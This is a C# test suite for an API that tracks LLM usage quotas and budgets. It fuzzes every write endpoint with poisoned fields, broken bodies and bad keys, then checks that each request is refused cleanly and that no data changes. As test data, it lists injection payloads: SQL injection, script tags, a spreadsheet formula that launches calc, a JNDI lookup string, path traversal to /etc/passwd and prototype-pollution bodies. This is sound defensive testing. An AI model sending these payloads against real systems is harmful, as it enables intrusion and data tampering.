using System.Net;
using System.Text;
using System.Text.Json;
using Microsoft.EntityFrameworkCore;
using Microsoft.Extensions.DependencyInjection;
using QuotaPortal.ApiKeys;
using QuotaPortal.Budgets;
using QuotaPortal.Data;
using QuotaPortal.Kernel;
using QuotaPortal.Teams;

namespace QuotaPortal.Tests.Composition;

/// <summary>
/// A generated hostile-input suite over every write endpoint: each request is invalid by construction (a poisoned field, a broken body, a bad
/// key), so each must be refused with problem details, none may answer 5xx, and the database must be exactly as before.
/// </summary>
public sealed class HostileInputTests(PortalFactory factory) : IClassFixture<PortalFactory>, IAsyncLifetime
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;
    private HttpClient admin = default!, ingest = default!;
    private int teamId, budgetId;

    public async ValueTask InitializeAsync()
    {
        await factory.EnsureUsersAsync();
        var system = AccessScope.System.WithActor("test");
        teamId = (await factory.Service<TeamService>().CreateTeamAsync(new TeamInput("Hostile", "hostile", null, null, null), system, Ct)).Value!.Id;
        budgetId = (await factory.Service<BudgetService>().SaveAsync(null, new BudgetInput("Hostile daily", null, teamId, null, null, null, BudgetMetric.Cost, 5,
            BudgetPeriod.Daily, null, "UTC", "80,100", null, EnforcementMode.AlertOnly, null), system, Ct)).Value!.Id;
        admin = await factory.IngestClientAsync(ApiKeyScopes.Admin);
        ingest = await factory.IngestClientAsync("ingest:hostile");
        // One real record, so sums are not trivially zero.
        var ok = await ingest.PostAsync("/api/v1/usage", Json("""{"team":"hostile","provider":"openai","model":"gpt-4o","apiMethod":"chat.completions","inputTokens":100,"outputTokens":10}"""), Ct);
        ok.EnsureSuccessStatusCode();
    }

    public ValueTask DisposeAsync() => ValueTask.CompletedTask;

    /// <summary>How a field is poisoned so that the request cannot be valid.</summary>
    private enum Poison { Count, Money, Team, Enum, Text, Timestamp, Ids, Zone, Slug, Required }

    private sealed record Target(string Method, string Path, HttpClient Client, string BaseJson, (string Field, Poison Kind)[] Fields, bool Batch = false);

    private Target[] Targets() =>
    [
        new("POST", "/api/v1/usage", ingest, """{"team":"hostile","provider":"openai","model":"gpt-4o","apiMethod":"chat.completions","inputTokens":100,"outputTokens":10}""",
            [("team", Poison.Team), ("inputTokens", Poison.Count), ("outputTokens", Poison.Count), ("timestamp", Poison.Timestamp), ("provider", Poison.Required)], Batch: true),
        new("POST", "/api/v1/outcomes", ingest, """{"team":"hostile","name":"tickets","value":3}""",
            [("team", Poison.Team), ("value", Poison.Money), ("timestamp", Poison.Timestamp), ("name", Poison.Required)], Batch: true),
        new("POST", "/api/v1/usage/estimate", admin, """{"provider":"openai","model":"gpt-4o","inputTokens":10,"outputTokens":1}""",
            [("inputTokens", Poison.Count), ("outputTokens", Poison.Count), ("model", Poison.Team)]),
        new("POST", "/api/v1/budgets", admin, $$"""{"name":"Hostile new","teamId":{{teamId}},"metric":"Cost","limit":5,"period":"Daily","timeZone":"UTC","thresholds":"80,100","enforcement":"AlertOnly"}""",
            [("limit", Poison.Money), ("period", Poison.Enum), ("metric", Poison.Enum), ("teamId", Poison.Ids), ("timeZone", Poison.Zone), ("name", Poison.Required)]),
        new("PUT", $"/api/v1/budgets/{budgetId}", admin, $$"""{"name":"Hostile daily","teamId":{{teamId}},"metric":"Cost","limit":5,"period":"Daily","timeZone":"UTC","thresholds":"80,100","enforcement":"AlertOnly"}""",
            [("limit", Poison.Money), ("period", Poison.Enum), ("enforcement", Poison.Enum), ("teamId", Poison.Ids), ("timeZone", Poison.Zone), ("name", Poison.Required)]),
        new("POST", "/api/v1/alerts/acknowledge", admin, """{"ids":[1],"note":"x"}""", [("ids", Poison.Ids)]),
        new("POST", "/api/v1/alerts/resolve", admin, """{"ids":[1],"note":"x"}""", [("ids", Poison.Ids)]),
        new("POST", "/api/v1/alerts/snooze", admin, """{"ids":[1],"until":"2030-01-01T00:00:00Z"}""", [("ids", Poison.Ids), ("until", Poison.Timestamp)]),
        new("POST", "/api/v1/alerts/expected", admin, """{"ids":[1],"expected":true}""", [("ids", Poison.Ids), ("expected", Poison.Enum)]),
        new("POST", "/api/v1/alerts/1/acknowledge", admin, """{"note":"x"}""", [("note", Poison.Text)]),
        new("POST", "/api/v1/alerts/1/resolve", admin, """{"note":"x"}""", [("note", Poison.Text)]),
        new("POST", "/api/v1/alerts/1/snooze", admin, """{"until":"2030-01-01T00:00:00Z"}""", [("until", Poison.Timestamp)]),
        new("POST", "/api/v1/alerts/1/expected", admin, """{"expected":true}""", [("expected", Poison.Enum)]),
        new("POST", "/api/v1/quota/check", admin, """{"team":"hostile","provider":"openai","model":"gpt-4o","estimatedInputTokens":10}""",
            [("team", Poison.Team), ("estimatedInputTokens", Poison.Count), ("provider", Poison.Required)]),
        new("POST", "/api/v1/prices", admin, """{"provider":"openai","model":"hostile-model","inputPerMTok":1,"outputPerMTok":2}""",
            [("inputPerMTok", Poison.Money), ("outputPerMTok", Poison.Money), ("effectiveFrom", Poison.Timestamp), ("provider", Poison.Required)]),
        new("POST", "/api/v1/prices/recompute", admin, """{"from":"2026-11-01T00:00:00Z","to":"2026-11-02T00:00:00Z","preview":false}""",
            [("from", Poison.Timestamp), ("to", Poison.Timestamp)]),
        new("POST", "/api/v1/teams", admin, """{"name":"Hostile two","slug":"hostile-two"}""", [("slug", Poison.Slug), ("departmentId", Poison.Ids), ("name", Poison.Required)]),
        new("PUT", $"/api/v1/teams/{teamId}", admin, """{"name":"Hostile","slug":"hostile"}""", [("slug", Poison.Slug), ("departmentId", Poison.Ids), ("name", Poison.Required)]),
        new("POST", "/api/v1/departments", admin, """{"name":"Hostile dept","slug":"hostile-dept"}""", [("slug", Poison.Slug), ("name", Poison.Required)]),
        new("PUT", "/api/v1/departments/999999", admin, """{"name":"Nobody","slug":"nobody"}""", [("slug", Poison.Slug), ("name", Poison.Required)]),
        new("POST", "/api/v1/api-keys", admin, """{"name":"hostile key","scope":"ingest:hostile"}""", [("scope", Poison.Slug), ("expiresAt", Poison.Timestamp), ("name", Poison.Required)]),
    ];

    private static readonly string[] Injections =
    [
        "'; DROP TABLE Teams;--", "<script>alert(1)</script>", "=cmd|' /C calc'!A0", "{{7*7}}", "${jndi:ldap://x/a}", "../../etc/passwd", "\u0000\u0001",
        "<!channel>", "😀\uFFFD", new string('a', 70_000), "null", "Robert'); --", "%00%0d%0a",
    ];

    /// <summary>A raw JSON token for the field that makes the request invalid whatever else it says.</summary>
    private static string Hostile(Poison kind, Random rng) => kind switch
    {
        Poison.Count => Pick(rng, "-1", "-9223372036854775809", "9223372036854775808", "1e400", "\"ten\"", "true", "{}", "[1]", "1.5e308", "\"NaN\"", "\"-Infinity\""),
        Poison.Money => Pick(rng, "-1", "-0.01", "1e400", "79228162514264337593543950336", "\"lots\"", "false", "[]", "{\"$gt\":0}", "\"NaN\"", "\"Infinity\""),
        Poison.Team => JsonSerializer.Serialize(Pick(rng, Injections)),
        Poison.Enum => Pick(rng, "\"Forever\"", "\"<script>\"", "99", "-1", "{}", "[\"Daily\"]", "\"Daily; DROP\""),
        Poison.Text => JsonSerializer.Serialize(new string('x', 100_000)),
        Poison.Timestamp => Pick(rng, "\"yesterday\"", "\"2026-13-45T99:99:99Z\"", "\"2026-02-30T10:00:00Z\"", "12", "{}", "[]", "true", "\"<script>\""),
        Poison.Ids => Pick(rng, "\"all\"", "[\"1\",\"x\"]", "{}", "[1e400]", "-5", "[]", "99999999999", "\"1 OR 1=1\""),
        Poison.Zone => Pick(rng, "\"Mars/Olympus\"", "\"../../etc/localtime\"", "\"<b>UTC</b>\"", "42"),
        Poison.Slug => JsonSerializer.Serialize(Pick(rng, "=cmd|x!A1 <b>X</b>", "ingest:'; DROP", "Has Spaces", "-leading", "a/b", "admin:*", "read:nosuchteam", "ingest:nosuchteam", "ingest:*;admin")),
        _ => "null",
    };

    private static T Pick<T>(Random rng, params T[] items) => items[rng.Next(items.Length)];

    private static string Poisoned(Target t, Random rng)
    {
        using var doc = JsonDocument.Parse(t.BaseJson);
        var fields = doc.RootElement.EnumerateObject().ToDictionary(p => p.Name, p => p.Value.GetRawText());
        foreach (var (field, kind) in t.Fields.OrderBy(_ => rng.Next()).Take(rng.Next(1, Math.Min(3, t.Fields.Length) + 1)))
        {
            if (kind == Poison.Required && rng.Next(2) == 0)
                fields.Remove(field);
            else
                fields[field] = Hostile(kind, rng);
        }
        var json = "{" + string.Join(",", fields.Select(f => $"{JsonSerializer.Serialize(f.Key)}:{f.Value}")) + "}";
        // A batch with one poisoned record among good ones is rejected whole.
        return t.Batch && rng.Next(2) == 0 ? $"[{t.BaseJson},{json},{t.BaseJson}]" : json;
    }

    private static HttpContent Json(string json) => new StringContent(json, Encoding.UTF8, "application/json");

    /// <summary>Bodies that are broken as a whole, whatever the endpoint (where a body could still parse, it carries a poisoned field too).</summary>
    private static HttpContent BrokenBody(Target t, int variant, Random rng) => variant switch
    {
        0 => Json(new string('[', 5_000) + new string(']', 5_000)),
        1 => Json("{\"a\":" + new string('{', 2_000) + new string('}', 2_000) + "}"),
        2 => new ByteArrayContent([0x7B, 0x22, 0x74, 0x65, 0x61, 0x6D, 0x22, 0x3A, 0x22, 0xC3, 0x28, 0xFF, 0xFE, 0x22, 0x7D]) { Headers = { { "Content-Type", "application/json" } } },
        3 => Json(t.BaseJson.Replace("}", ",\"x\":NaN}", StringComparison.Ordinal)),
        4 => Json(t.BaseJson[..(t.BaseJson.Length / 2)]),
        5 => new StringContent(Poisoned(t, rng), Encoding.UTF8, "text/plain"),
        6 => new StringContent(Poisoned(t, rng), Encoding.Unicode, "application/json"),
        7 => Json(""),
        8 => Json("[" + string.Join(",", Enumerable.Repeat("{\"team\":\"" + new string('z', 1000) + "\"}", 6_000)) + "]"),
        9 => Json(Poisoned(t, rng).TrimEnd(']').TrimEnd('}') + ",\"" + new string('k', 10) + "\":\"" + new string('v', 6 * 1024 * 1024) + "\"}"),
        10 => Json("\"just a string\""),
        11 => Json("null"),
        _ => Json("{\"__proto__\":{\"admin\":true},\"constructor\":{\"prototype\":{}}}"),
    };

    private sealed record Snapshot(Dictionary<string, long> Counts, long CostNanos, long Tokens, string Teams, string Budgets, string Keys, string Prices);

    private async Task<Snapshot> SnapshotAsync()
    {
        await using var db = await factory.Service<IDbContextFactory<QuotaDbContext>>().CreateDbContextAsync(Ct);
        var counts = new Dictionary<string, long>
        {
            ["usage"] = await db.UsageRecords.LongCountAsync(Ct), ["hourly"] = await db.UsageHourly.LongCountAsync(Ct), ["daily"] = await db.UsageDaily.LongCountAsync(Ct),
            ["teams"] = await db.Teams.LongCountAsync(Ct), ["departments"] = await db.Departments.LongCountAsync(Ct), ["budgets"] = await db.Budgets.LongCountAsync(Ct),
            ["alerts"] = await db.Alerts.LongCountAsync(Ct), ["outbox"] = await db.NotificationOutbox.LongCountAsync(Ct), ["keys"] = await db.ApiKeys.LongCountAsync(Ct),
            ["audit"] = await db.AuditEntries.LongCountAsync(Ct), ["prices"] = await db.ModelPrices.LongCountAsync(Ct), ["outcomes"] = await db.Outcomes.LongCountAsync(Ct),
            ["batches"] = await db.IngestBatches.LongCountAsync(Ct), ["settings"] = await db.AppSettings.LongCountAsync(Ct),
        };
        var cost = await db.UsageHourly.SumAsync(h => h.CostNanos, Ct);
        var tokens = await db.UsageHourly.SumAsync(h => h.InputTokens + h.OutputTokens, Ct);
        string Rows<T>(IEnumerable<T> rows) => JsonSerializer.Serialize(rows);
        return new Snapshot(counts, cost, tokens,
            Rows(await db.Teams.AsNoTracking().OrderBy(t => t.Id).Select(t => new { t.Id, t.Name, t.Slug, t.DepartmentId, t.ArchivedAt }).ToListAsync(Ct)),
            Rows(await db.Budgets.AsNoTracking().OrderBy(b => b.Id).Select(b => new { b.Id, b.Name, b.Limit, b.Period, b.Metric, b.TeamId, b.TimeZone, b.Thresholds }).ToListAsync(Ct)),
            Rows(await db.ApiKeys.AsNoTracking().OrderBy(k => k.Id).Select(k => new { k.Id, k.Scope, k.RevokedAt }).ToListAsync(Ct)),
            Rows(await db.ModelPrices.AsNoTracking().OrderBy(p => p.Id).Select(p => new { p.Id, p.InputPerMTok, p.OutputPerMTok }).ToListAsync(Ct)));
    }

    [Fact]
    public async Task A_thousand_hostile_requests_to_every_write_endpoint_get_problem_details_no_5xx_and_change_nothing()
    {
        var before = await SnapshotAsync();
        var rng = new Random(20261201);
        var targets = Targets();
        var failures = new List<string>();
        var byStatus = new SortedDictionary<int, int>();
        var sent = 0;
        async Task SendAsync(Target t, HttpClient client, HttpContent content, string what)
        {
            using var request = new HttpRequestMessage(new HttpMethod(t.Method), t.Path) { Content = content };
            using var response = await client.SendAsync(request, Ct);
            sent++;
            var status = (int)response.StatusCode;
            byStatus[status] = byStatus.GetValueOrDefault(status) + 1;
            var type = response.Content.Headers.ContentType?.MediaType;
            if (status is < 400 or >= 500)
                failures.Add($"{t.Method} {t.Path} [{what}] answered {status}: {(await response.Content.ReadAsStringAsync(Ct))[..Math.Min(200, (int)(response.Content.Headers.ContentLength ?? 200))]}");
            else if (type != "application/problem+json")
                failures.Add($"{t.Method} {t.Path} [{what}] answered {status} as {type ?? "no body"}, not problem details");
        }

        foreach (var t in targets)
        {
            for (var i = 0; i < 50; i++)
            {
                var json = Poisoned(t, rng);
                await SendAsync(t, t.Client, Json(json), json.Length > 160 ? json[..160] + "…" : json);
            }
            for (var variant = 0; variant <= 12; variant++)
                await SendAsync(t, t.Client, BrokenBody(t, variant, rng), $"broken body {variant}");
            foreach (var key in new[] { "qp_deadbeef_" + new string('A', 32), "qp_", "' OR 1=1 --", new string('k', 4096), "qp_DEADBEEF_" + new string('a', 32) })
            {
                var stranger = factory.CreateClient();
                stranger.DefaultRequestHeaders.TryAddWithoutValidation("X-Api-Key", key);
                await SendAsync(t, stranger, Json(t.BaseJson), "bad key");
            }
        }

        var after = await SnapshotAsync();
        Assert.True(sent >= 1_000, $"only {sent} requests");
        Assert.True(failures.Count == 0, $"{failures.Count} of {sent} requests misanswered:\n" + string.Join("\n", failures.Take(40)));
        Assert.Equal(before.Counts, after.Counts);
        Assert.Equal((before.CostNanos, before.Tokens), (after.CostNanos, after.Tokens));
        Assert.Equal(before.Teams, after.Teams);
        Assert.Equal(before.Budgets, after.Budgets);
        Assert.Equal(before.Keys, after.Keys);
        Assert.Equal(before.Prices, after.Prices);
        TestContext.Current.TestOutputHelper?.WriteLine($"hostile suite: {sent} requests over {targets.Length} endpoints; statuses {string.Join(", ", byStatus.Select(s => $"{s.Key}×{s.Value}"))}");
    }
}
